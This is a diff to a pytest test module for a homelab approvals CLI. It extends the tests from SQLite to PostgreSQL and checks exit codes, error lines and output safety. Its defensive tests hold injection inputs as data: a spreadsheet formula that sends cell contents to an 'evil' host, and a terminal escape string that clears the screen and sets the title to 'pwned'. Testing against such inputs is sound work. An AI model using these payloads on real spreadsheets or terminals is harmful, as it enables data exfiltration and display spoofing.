@@ -1,4 +1,6 @@
-"""The CLI contract, in process: `main([...])` against real SQLite files in tmp dirs.
+"""The CLI contract, in process: `main([...])` against real SQLite files in tmp dirs and
+real PostgreSQL databases (`backends`, tests/conftest.py); what is about a file, its
+permissions or sqlite3 itself stays on SQLite (`sqlite_only`, with the reason).
 
 Scripts depend on exit codes, JSON shapes and the one-line error format, so those are
 pinned exactly here. Subprocess checks (entry points, signals, pipes) are in
@@ -20,6 +22,7 @@ from typing import Any
 
 import pytest
 
+from db_targets import DbTarget
 from homelab_approvals import __version__
 from homelab_approvals.cli.main import main
 from homelab_approvals.cli.output import formula_safe
@@ -28,6 +31,17 @@ from homelab_approvals.cli.session import Session
 from homelab_approvals.domain.views import ActionView, EventView, ServerView
 from homelab_approvals.service import ApprovalService
 from homelab_approvals.storage import Database
+
+pytestmark = pytest.mark.backends
+
+# Why a test of this module runs on SQLite alone.
+NO_DATABASE_YET = pytest.mark.sqlite_only(
+    "refused before any database is named or opened: the check is that no file appears"
+)
+A_FILE = pytest.mark.sqlite_only("about a database file: its path, contents or permissions")
+DEFAULT_DB = pytest.mark.sqlite_only(
+    "the default database ($HOMELAB_APPROVALS_DB, else the user data dir) is a SQLite file"
+)
 
 ACTION_KEYS = set(ActionView._fields)
 # list, show and approve add the action's preview (tests/test_cli_previews.py).
@@ -69,12 +83,16 @@ def _hermetic_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
 
 
 @pytest.fixture
-def cli(db_path: Path, capsys: pytest.CaptureFixture[str]) -> Cli:
-    """Run the CLI on `db_path` (or another --db, or none) with extra global options."""
+def cli(db_target: DbTarget, capsys: pytest.CaptureFixture[str]) -> Cli:
+    """Run the CLI on the test's database (or another --db, or none) with extra global
+    options."""
 
-    def run(*argv: str, pre: Sequence[str] = (), db: Path | None = db_path) -> Run:
+    def run(*argv: str, pre: Sequence[str] = (), db: Path | DbTarget | None = db_target) -> Run:
         capsys.readouterr()
-        where = ["--db", str(db)] if db is not None else []
+        if isinstance(db, DbTarget):
+            where = db.cli_args
+        else:
+            where = ["--db", str(db)] if db is not None else []
         code = main([*where, *pre, *argv])
         out, err = capsys.readouterr()
         return Run(code, out, err)
@@ -95,13 +113,9 @@ def world(seeded: ApprovalService) -> ApprovalService:
     return seeded
 
 
-def dump(path: Path) -> list[str]:
-    """Every row and every schema object: equal dumps mean nothing changed."""
-    conn = sqlite3.connect(path)
-    try:
-        return list(conn.iterdump())
-    finally:
-        conn.close()
+def dump(target: DbTarget) -> list[Any]:
+    """Every row (and on SQLite every schema object): equal dumps mean nothing changed."""
+    return target.dump()
 
 
 def assert_iso_utc(value: str) -> None:
@@ -194,6 +208,7 @@ USAGE_ERRORS = [
 ]
 
 
+@NO_DATABASE_YET
 @pytest.mark.parametrize(("argv", "fragment"), USAGE_ERRORS)
 def test_usage_errors_exit_2_with_one_line(
     cli: Cli, db_path: Path, argv: list[str], fragment: str
@@ -384,7 +399,7 @@ def test_servers_json(cli: Cli, seeded: ApprovalService) -> None:
     assert servers[0]["paused_at"] is None
 
 
-def test_server_add_pause_unpause(cli: Cli, db_path: Path) -> None:
+def test_server_add_pause_unpause(cli: Cli) -> None:
     added = cli("server", "add", "pve", "--hostname", "pve.lan", "--display-name", "Proxmox")
     assert (added.code, added.err) == (0, "")
     assert "pve" in added.out
@@ -469,18 +484,23 @@ def test_csv_quotes_commas_quotes_and_newlines(cli: Cli, world: ApprovalService)
     ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx"],
 )
 def test_csv_neutralises_formulas_and_json_stays_exact(
-    cli: Cli, world: ApprovalService, reason: str
+    cli: Cli, world: ApprovalService, db_target: DbTarget, reason: str
 ) -> None:
     """Issue 16, OWASP's CSV injection advice: a leading single quote, the rest exact."""
-    conn = sqlite3.connect(world.db.label)
-    conn.execute("DROP TRIGGER action_events_no_update")  # test data only: set the reason
-    conn.execute("UPDATE action_events SET reason = ? WHERE id = 1", (reason,))
-    conn.commit()
-    conn.close()
+    set_first_event_reason(db_target, reason)
     rows = list(csv.DictReader(io.StringIO(cli("events", "--csv").out, newline="")))
     assert rows[0]["reason"] == "'" + reason
     assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
     assert cli("events", "--json").json()[0]["reason"] == reason
+
+
+def set_first_event_reason(target: DbTarget, reason: str) -> None:
+    """Test data only: the append-only trigger is set aside to rewrite event 1's reason."""
+    if target.backend == "sqlite":
+        target.execute("DROP TRIGGER action_events_no_update")
+    else:
+        target.execute("ALTER TABLE action_events DISABLE TRIGGER action_events_append_only")
+    target.execute("UPDATE action_events SET reason = :reason WHERE id = 1", reason=reason)
 
 
 def test_formula_safe_covers_owasps_list() -> None:
@@ -516,16 +536,14 @@ def test_list_filters(cli: Cli, world: ApprovalService, argv: list[str], ids: li
 
 
 def test_list_json_notes_on_stderr_when_the_default_window_cuts_it(
-    cli: Cli, seeded: ApprovalService, db_path: Path
+    cli: Cli, seeded: ApprovalService, db_target: DbTarget
 ) -> None:
-    with sqlite3.connect(db_path) as conn:
-        conn.executemany(
-            "INSERT INTO remediation_actions (server_id, action_type, status, command,"
-            " created_at, created_by) VALUES ('nas', 'clear_logs', 'completed', 'x',"
-            " '2026-11-27 10:00:00.000000', 'seed')",
-            [()] * 1001,
-        )
-    conn.close()
+    db_target.execute(
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1001)"
+        " INSERT INTO remediation_actions (server_id, action_type, status, command,"
+        " created_at, created_by) SELECT 'nas', 'clear_logs', 'completed', 'x',"
+        " '2026-11-27 10:00:00.000000', 'seed' FROM n"
+    )
     run = cli("list", "--json")
     assert (run.code, len(run.json())) == (0, 1000)
     assert run.err == (
@@ -689,19 +707,19 @@ REFUSALS = [
 def test_refused_commands(
     cli: Cli,
     world: ApprovalService,
-    db_path: Path,
+    db_target: DbTarget,
     argv: list[str],
     exit_code: int,
     code: str,
     fragment: str,
 ) -> None:
-    before = dump(db_path)
+    before = dump(db_target)
     run = cli(*argv)
     assert run.code == exit_code
     assert run.error_line.startswith(f"error: {code}: ")
     assert fragment in run.error_line
     assert run.out == ""
-    assert dump(db_path) == before
+    assert dump(db_target) == before
 
 
 @pytest.mark.parametrize(("argv", "exit_code", "code", "fragment"), REFUSALS[:8])
@@ -730,6 +748,7 @@ def test_the_console_needs_a_terminal(cli: Cli, world: ApprovalService, command:
     assert run.error_line.startswith("error: USAGE: the console needs a terminal")
 
 
+@A_FILE
 def test_the_console_reports_database_errors_before_anything_else(cli: Cli, tmp_path: Path) -> None:
     junk = tmp_path / "junk.db"
     junk.write_bytes(b"not a database" * 100)
@@ -748,15 +767,15 @@ def test_demo_refuses_read_only(cli: Cli) -> None:
 
 
 def test_non_approver_is_forbidden_and_nothing_changes(
-    cli: Cli, world: ApprovalService, db_path: Path, tmp_path: Path
+    cli: Cli, world: ApprovalService, db_target: DbTarget, tmp_path: Path
 ) -> None:
     config = write_config(tmp_path, 'approvers = ["alice"]\n')
-    before = dump(db_path)
+    before = dump(db_target)
     for argv in (["approve", "1"], ["reject", "1", "--reason", "no"], ["cancel", "1"]):
         run = cli(*argv, pre=["--config", str(config), "--operator", "mallory"])
         assert run.code == 5
         assert run.error_line.startswith("error: FORBIDDEN: 'mallory' is not in the approvers")
-    assert dump(db_path) == before
+    assert dump(db_target) == before
     allowed = cli("approve", "1", pre=["--config", str(config), "--operator", "alice"])
     assert allowed.code == 0
 
@@ -768,17 +787,17 @@ def test_reading_is_open_to_non_approvers(cli: Cli, world: ApprovalService, tmp_
 
 
 def test_self_approval_can_be_forbidden(
-    cli: Cli, seeded: ApprovalService, db_path: Path, tmp_path: Path
+    cli: Cli, seeded: ApprovalService, db_target: DbTarget, tmp_path: Path
 ) -> None:
     config = write_config(tmp_path, "allow_self_approval = false\n")
     pre = ["--config", str(config), "--operator", "alice"]
     created = cli("create", "--server", "pi-4", "--type", "clear_logs", "--json", pre=pre)
     action_id = str(created.json()["id"])
-    before = dump(db_path)
+    before = dump(db_target)
     refused = cli("approve", action_id, pre=pre)
     assert refused.code == 5
     assert "may not approve" in refused.error_line
-    assert dump(db_path) == before
+    assert dump(db_target) == before
     assert cli("reject", action_id, "--reason", "changed my mind", pre=pre).code == 0
 
 
@@ -797,6 +816,7 @@ def test_default_config_location_is_read(cli: Cli, world: ApprovalService, tmp_p
     assert cli("approve", "1", pre=["--operator", "mallory"]).code == 5
 
 
+@NO_DATABASE_YET
 @pytest.mark.parametrize(
     ("text", "fragment"),
     [
@@ -818,6 +838,7 @@ def test_bad_config_exits_2_naming_the_file(
     assert not db_path.exists()  # the config is read before the database is opened
 
 
+@NO_DATABASE_YET
 def test_an_explicit_config_that_does_not_exist_is_refused(
     cli: Cli, db_path: Path, tmp_path: Path
 ) -> None:
@@ -840,10 +861,10 @@ def session_for(*argv: str) -> Session:
 
 
 def test_console_reason_names_the_non_approver_and_the_config(
-    world: ApprovalService, db_path: Path, tmp_path: Path
+    world: ApprovalService, db_target: DbTarget, tmp_path: Path
 ) -> None:
     config = write_config(tmp_path, 'approvers = ["alice"]\n')
-    common = ["--db", str(db_path), "--config", str(config)]
+    common = [*db_target.cli_args, "--config", str(config)]
     outsider = session_for(*common, "--operator", "mallory")
     insider = session_for(*common, "--operator", "alice")
     try:
@@ -856,8 +877,10 @@ def test_console_reason_names_the_non_approver_and_the_config(
         insider.close()
 
 
-def test_console_reason_for_a_read_only_database(world: ApprovalService, db_path: Path) -> None:
-    session = session_for("--db", str(db_path), "--read-only", "--operator", "alice")
+def test_console_reason_for_a_read_only_database(
+    world: ApprovalService, db_target: DbTarget
+) -> None:
+    session = session_for(*db_target.cli_args, "--read-only", "--operator", "alice")
     try:
         assert session.console_read_only_reason() == "--read-only was given"
     finally:
@@ -867,6 +890,7 @@ def test_console_reason_for_a_read_only_database(world: ApprovalService, db_path
 # -- database faults --------------------------------------------------------------------------
 
 
+@A_FILE
 def test_not_a_database_is_one_line_and_the_file_is_untouched(cli: Cli, tmp_path: Path) -> None:
     junk = tmp_path / "junk.db"
     junk.write_bytes(os.urandom(4096))
@@ -879,11 +903,13 @@ def test_not_a_database_is_one_line_and_the_file_is_untouched(cli: Cli, tmp_path
     assert sorted(p.name for p in tmp_path.iterdir()) == ["junk.db"]  # no -wal, no -shm
 
 
+@DEFAULT_DB
 @pytest.mark.parametrize("option", ["--db", "--database-url", "--config"])
 def test_an_empty_path_option_is_refused_not_replaced_by_the_default(
     cli: Cli,
     world: ApprovalService,
     db_path: Path,
+    db_target: DbTarget,
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
     option: str,
@@ -891,17 +917,18 @@ def test_an_empty_path_option_is_refused_not_replaced_by_the_default(
     """`--db "$DB"` with DB unset must not approve #1 in whatever database the default
     (here $HOMELAB_APPROVALS_DB) names."""
     monkeypatch.setenv("HOMELAB_APPROVALS_DB", str(db_path))
-    before = dump(db_path)
+    before = dump(db_target)
     run = cli(option, "", "--operator", "alice", "approve", "1", db=None)
     assert run.code == 2
     assert run.error_line == (
         f"error: USAGE: argument {option}: must not be empty; leave it out for the default"
         " (see 'homelab-approvals --help')"
     )
-    assert dump(db_path) == before
+    assert dump(db_target) == before
     assert not (tmp_path / "xdg-data").exists()
 
 
+@A_FILE
 def test_a_folder_as_the_database_says_so(cli: Cli, tmp_path: Path) -> None:
     folder = tmp_path / "data"
     folder.mkdir()
@@ -915,16 +942,17 @@ def test_a_folder_as_the_database_says_so(cli: Cli, tmp_path: Path) -> None:
 
 
 def test_read_only_reads_but_refuses_decisions(
-    cli: Cli, world: ApprovalService, db_path: Path
+    cli: Cli, world: ApprovalService, db_target: DbTarget
 ) -> None:
-    before = dump(db_path)
+    before = dump(db_target)
     assert cli("list", "--json", pre=["--read-only"]).code == 0
     run = cli("approve", "1", pre=["--read-only", "--operator", "alice"])
     assert run.code == 1
     assert run.error_line.startswith("error: DATABASE_ERROR: database is open read-only")
-    assert dump(db_path) == before
+    assert dump(db_target) == before
 
 
+@A_FILE
 def test_read_only_on_a_missing_database_creates_nothing(cli: Cli, db_path: Path) -> None:
     run = cli("list", pre=["--read-only"])
     assert run.code == 1
@@ -932,11 +960,13 @@ def test_read_only_on_a_missing_database_creates_nothing(cli: Cli, db_path: Path
     assert not db_path.exists()
 
 
+@pytest.mark.sqlite_only("a sqlite:/// URL")
 def test_database_url_sqlite(cli: Cli, world: ApprovalService, db_path: Path) -> None:
     run = cli("list", "--json", pre=["--database-url", f"sqlite:///{db_path}"], db=None)
     assert (run.code, len(run.json())) == (0, 4)
 
 
+@DEFAULT_DB
 def test_database_from_the_environment(
     cli: Cli, world: ApprovalService, db_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -945,6 +975,7 @@ def test_database_from_the_environment(
     assert (run.code, len(run.json())) == (0, 4)
 
 
+@DEFAULT_DB
 def test_default_database_is_created_private_in_the_user_data_dir(cli: Cli, tmp_path: Path) -> None:
     assert cli("servers", db=None).code == 0
     created = tmp_path / "xdg-data" / "homelab-approvals" / "approvals.db"
@@ -952,6 +983,7 @@ def test_default_database_is_created_private_in_the_user_data_dir(cli: Cli, tmp_
     assert stat.S_IMODE(created.parent.stat().st_mode) == 0o700
 
 
+@A_FILE
 def test_group_shared_creates_a_group_writable_file(cli: Cli, tmp_path: Path) -> None:
     path = tmp_path / "shared" / "approvals.db"
     assert cli("servers", pre=["--group-shared"], db=path).code == 0
@@ -959,11 +991,12 @@ def test_group_shared_creates_a_group_writable_file(cli: Cli, tmp_path: Path) ->
     assert stat.S_IMODE(path.parent.stat().st_mode) == 0o770
 
 
+@pytest.mark.sqlite_only("SQLite's write lock against its busy timeout")
 @pytest.mark.slow
 def test_busy_database_is_one_line_and_changes_nothing(
-    cli: Cli, world: ApprovalService, db_path: Path
+    cli: Cli, world: ApprovalService, db_path: Path, db_target: DbTarget
 ) -> None:
-    before = dump(db_path)
+    before = dump(db_target)
     holder = sqlite3.connect(db_path, isolation_level=None)
     try:
         holder.execute("BEGIN IMMEDIATE")  # hold the write lock past the busy timeout
@@ -973,23 +1006,21 @@ def test_busy_database_is_one_line_and_changes_nothing(
         holder.close()
     assert run.code == 1
     assert run.error_line.startswith("error: DATABASE_BUSY: database is busy")
-    assert dump(db_path) == before
+    assert dump(db_target) == before
 
 
 def test_unexpected_errors_are_one_line_exit_1(
-    cli: Cli, seeded: ApprovalService, db_path: Path
+    cli: Cli, seeded: ApprovalService, db_target: DbTarget
 ) -> None:
     # A table no code expects: a HomelabCmd table that lost a column.
-    conn = sqlite3.connect(db_path)
-    conn.execute("ALTER TABLE remediation_actions DROP COLUMN stderr")
-    conn.commit()
-    conn.close()
+    db_target.execute("ALTER TABLE remediation_actions DROP COLUMN stderr")
     run = cli("list")
     assert run.code == 1
     assert run.error_line.startswith("error: ")
     assert "Traceback" not in run.err
 
 
+@pytest.mark.sqlite_only("PostgreSQL's timestamp column refuses text that is no time")
 def test_a_time_that_is_no_time_is_shown_marked_and_the_rest_listed(
     cli: Cli, seeded: ApprovalService, db_path: Path
 ) -> None:
@@ -1013,24 +1044,25 @@ HOSTILE = "\x1b[2J\x1b]0;pwned\x07evil\u202ereversed\x9b31m"
 
 
 @pytest.fixture
-def hostile(seeded: ApprovalService, db_path: Path) -> ApprovalService:
+def hostile(seeded: ApprovalService, db_target: DbTarget) -> ApprovalService:
     """Text our validators would refuse, written behind their back (as another tool could):
     a server name, a service, command output, a reason and an event actor."""
     seeded.create_action("pi-4", "restart_service", "nginx", actor="homelabcmd")
-    conn = sqlite3.connect(db_path)
-    with conn:
-        conn.execute("UPDATE servers SET display_name = ? WHERE id = 'pi-4'", (HOSTILE,))
-        conn.execute(
-            "UPDATE remediation_actions SET service_name = ?, stdout = ?, rejection_reason = ?,"
-            " created_by = ? WHERE id = 1",
-            (HOSTILE, f"line one\n{HOSTILE}\nline three", HOSTILE, HOSTILE),
-        )
-        conn.execute(
-            "INSERT INTO action_events (action_id, from_status, to_status, actor, at, reason)"
-            " VALUES (1, 'pending', 'pending', ?, '2026-11-27 10:00:00.000000', ?)",
-            (HOSTILE, HOSTILE),
-        )
-    conn.close()
+    db_target.execute("UPDATE servers SET display_name = :h WHERE id = 'pi-4'", h=HOSTILE)
+    db_target.execute(
+        "UPDATE remediation_actions SET service_name = :h1, stdout = :out,"
+        " rejection_reason = :h2, created_by = :h3 WHERE id = 1",
+        h1=HOSTILE,
+        h2=HOSTILE,
+        h3=HOSTILE,
+        out=f"line one\n{HOSTILE}\nline three",
+    )
+    db_target.execute(
+        "INSERT INTO action_events (action_id, from_status, to_status, actor, at, reason)"
+        " VALUES (1, 'pending', 'pending', :h1, '2026-11-27 10:00:00.000000', :h2)",
+        h1=HOSTILE,
+        h2=HOSTILE,
+    )
     return seeded
 
 
